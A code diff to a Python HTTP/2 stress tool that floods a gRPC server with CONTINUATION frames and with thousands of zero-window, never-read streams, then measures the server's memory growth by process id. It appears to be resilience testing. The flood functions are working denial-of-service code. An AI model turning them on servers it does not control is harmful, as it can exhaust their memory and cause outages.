@@ -119,8 +119,10 @@ class Connection:
         acknowledges them, as every real client does (gRPC core applies its own limits, such as
         MAX_CONCURRENT_STREAMS, only once the client has acknowledged them)."""
         self.sock = open_socket(address, tls=tls, timeout=timeout)
+        self.opened_at = time.monotonic()
         self.buffer = b""
         self.closed = False
+        self.closed_after = None
         self.next_stream_id = 1
         self.decoder = hpack.Decoder()  # the server's header blocks, decoded in arrival order
         self.server_settings = None   # {identifier: value} of the server's first SETTINGS
@@ -178,6 +180,8 @@ class Connection:
                 sid = int.from_bytes(self.buffer[5:9], "big") & 0x7FFFFFFF
                 out.append((kind, flags, sid, self.buffer[9:9 + length]))
                 self.buffer = self.buffer[9 + length:]
+            if len(out) >= max_frames:
+                break
             left = deadline - time.monotonic()
             if left <= 0:
                 break
@@ -202,20 +206,23 @@ class Connection:
 
     def pump(self, seconds):
         """Read for `seconds` (or until the peer closes) as a well-behaved idle client does:
-        answer PINGs, acknowledge SETTINGS. Returns [(seconds since the call, frame)]."""
+        answer PINGs, acknowledge SETTINGS. Returns [(seconds since the connection opened, frame)]
+        (frames read while connecting first, at time 0); self.closed_after: when the server closed it."""
         started = time.monotonic()
-        out = []
+        out = [(0.0, f) for f in self.early_frames]
         while not self.closed:
             left = seconds - (time.monotonic() - started)
             if left <= 0:
                 break
             for f in self.read_frames(timeout=left, max_frames=1):
                 kind, flags, _, payload = f
-                out.append((time.monotonic() - started, f))
+                out.append((time.monotonic() - self.opened_at, f))
                 if kind == PING and not flags & ACK:
                     self.try_send(frame(PING, ACK, 0, payload), 1.0)
                 elif kind == SETTINGS and not flags & ACK:
                     self.try_send(settings_ack(), 1.0)
+        if self.closed:
+            self.closed_after = time.monotonic() - self.opened_at
         return out
 
     def close(self):
@@ -360,37 +367,47 @@ def continuation_flood(address, pid, total_bytes, tls=None, seconds_max=60.0, bl
 
 class StreamFloodResult:
     def __init__(self):
-        self.streams_opened = 0
-        self.refused = 0          # RST_STREAM REFUSED_STREAM seen once the client finally read
-        self.answered = 0         # streams that got response HEADERS
+        self.streams_attempted = 0
+        self.streams_sent = 0
+        self.send_blocked = 0      # sends the server did not take within 2 s
+        self.closed_connections = 0  # connections the server closed during the flood
+        self.answered = 0          # streams whose response HEADERS could still be read afterwards
+        self.refused_rst = 0       # RST_STREAM REFUSED_STREAM
+        self.goaways = []
         self.advertised_max_streams = None
         self.rss_before_kb = self.rss_peak_kb = None
-        self.send_blocked = 0
         self.seconds = 0.0
-        self.goaways = []
+        self.hold_seconds = 0.0
+
+    @property
+    def not_served(self):
+        """Streams of the attack the server did not answer: refused, dropped with their
+        connection, or never sent because the server had closed it."""
+        return self.streams_attempted - self.answered
 
     @property
     def rss_growth_kb(self):
         return self.rss_peak_kb - self.rss_before_kb
 
     def __repr__(self):
-        return ("%d streams opened in %.1fs (%d sends blocked), server advertised MAX_CONCURRENT_STREAMS %s; "
-                "read afterwards: %d answered, %d refused, GOAWAYs %s; RSS %d -> peak %d KiB (+%d)"
-                % (self.streams_opened, self.seconds, self.send_blocked, self.advertised_max_streams,
-                   self.answered, self.refused, self.goaways, self.rss_before_kb, self.rss_peak_kb,
-                   self.rss_growth_kb))
+        return ("%d streams attempted, %d sent in %.1fs (%d sends blocked), server advertised "
+                "MAX_CONCURRENT_STREAMS %s, closed %d connections; read afterwards: %d answered, %d RST "
+                "REFUSED_STREAM, GOAWAYs %s; not served %d; RSS %d -> peak %d KiB (+%d) within %.1fs of holding"
+                % (self.streams_attempted, self.streams_sent, self.seconds, self.send_blocked,
+                   self.advertised_max_streams, self.closed_connections, self.answered, self.refused_rst,
+                   self.goaways, self.not_served, self.rss_before_kb, self.rss_peak_kb, self.rss_growth_kb,
+                   self.hold_seconds))
 
 
 def stream_flood(address, pid, connections, streams_per_connection, request_headers, request_body,
-                 tls=None, hold_seconds=3.0, seconds_max=60.0, ack_settings=True):
+                 tls=None, hold_seconds=3.0, seconds_max=60.0, ack_settings=True, settle_seconds_max=30.0):
     """Open `streams_per_connection` streams on each of `connections` connections, each a full
-    request (HEADERS + DATA with END_STREAM), while never reading a byte: the server's responses
-    pile up in its buffers unless it refuses streams past its limit. Holds the streams open
-    `hold_seconds`, samples RSS, then reads what the server sent (answers, RST_STREAM)."""
+    request (HEADERS + DATA with END_STREAM), while never reading a byte and granting a flow-control
+    window of 0: the server's answers pile up in its memory unless it refuses streams past its limit.
+    Holds the streams open `hold_seconds` sampling RSS, then reads what the server sent."""
     result = StreamFloodResult()
     result.rss_before_kb = result.rss_peak_kb = rss_kb(pid)
     started = time.monotonic()
-    # A window of 0: the server may send headers but no response bytes, so answers wait in its memory.
     conns = [Connection(address, tls=tls, initial_window=0, ack_settings=ack_settings)
              for _ in range(connections)]
     block = encode_headers(request_headers)
@@ -398,11 +415,14 @@ def stream_flood(address, pid, connections, streams_per_connection, request_head
     try:
         for i in range(streams_per_connection):
             for conn in conns:
+                result.streams_attempted += 1
+                if conn.closed:
+                    continue
                 sid = conn.new_stream_id()
                 state = conn.try_send(frame(HEADERS, END_HEADERS, sid, block) + frame(DATA, END_STREAM, sid, data),
                                       timeout=2.0)
                 if state == "sent":
-                    result.streams_opened += 1
+                    result.streams_sent += 1
                 elif state == "blocked":
                     result.send_blocked += 1
             if i % 100 == 99:
@@ -410,26 +430,33 @@ def stream_flood(address, pid, connections, streams_per_connection, request_head
             if time.monotonic() - started > seconds_max:
                 break
         result.seconds = time.monotonic() - started
-        hold_until = time.monotonic() + hold_seconds
-        while time.monotonic() < hold_until:
-            result.rss_peak_kb = max(result.rss_peak_kb, rss_kb(pid))
+        # Hold at least hold_seconds, then until RSS has stopped growing (by 1 MB in 2 s) or
+        # settle_seconds_max: the server may still be producing answers nobody reads.
+        hold_started = time.monotonic()
+        samples = []
+        while True:
+            now = time.monotonic()
+            samples.append((now, rss_kb(pid)))
+            result.rss_peak_kb = max(result.rss_peak_kb, samples[-1][1])
+            if now - hold_started >= settle_seconds_max:
+                break
+            if now - hold_started >= hold_seconds:
+                two_seconds_ago = [kb for t, kb in samples if t <= now - 2.0]
+                if two_seconds_ago and samples[-1][1] - two_seconds_ago[-1] < 1024:
+                    break
             time.sleep(0.25)
-        answered = set()
+        result.hold_seconds = time.monotonic() - hold_started
         for conn in conns:
             if conn.server_settings is not None:
                 result.advertised_max_streams = conn.server_settings.get(SETTINGS_MAX_CONCURRENT_STREAMS)
             frames = conn.early_frames + conn.read_frames(timeout=2.0)
-            for kind, flags, sid, payload in frames:
-                if kind == RST_STREAM and struct.unpack(">I", payload)[0] == REFUSED_STREAM:
-                    result.refused += 1
-                elif kind == HEADERS:
-                    answered.add((id(conn), sid))
+            result.closed_connections += conn.closed
+            result.answered += len({sid for kind, _, sid, _ in frames if kind == HEADERS})
+            result.refused_rst += sum(1 for kind, _, _, payload in frames
+                                      if kind == RST_STREAM and struct.unpack(">I", payload)[0] == REFUSED_STREAM)
             away = goaway_of(frames)
             if away is not None:
-                # Streams above the GOAWAY's last stream id were never processed: refused too.
                 result.goaways.append(away)
-                result.refused += sum(1 for sid in range(away[0] + 2, conn.next_stream_id, 2))
-        result.answered = len(answered)
     finally:
         for conn in conns:
             conn.close()
@@ -448,6 +475,7 @@ def main():
     s.add_argument("--pid", type=int, required=True)
     s.add_argument("--connections", type=int, default=4)
     s.add_argument("--streams", type=int, default=1500)
+    s.add_argument("--no-ack", action="store_true", help="never acknowledge the server's SETTINGS")
     for p in (c, s):
         p.add_argument("--ca")
         p.add_argument("--cert")
@@ -459,7 +487,8 @@ def main():
         print(continuation_flood(args.address, args.pid, args.mb << 20, tls=tls))
     else:
         print(stream_flood(args.address, args.pid, args.connections, args.streams,
-                           grpc_request_headers("/grpc.health.v1.Health/Check"), b"", tls=tls))
+                           grpc_request_headers("/grpc.health.v1.Health/Check"), b"", tls=tls,
+                           ack_settings=not args.no_ack))
 
 
 if __name__ == "__main__":
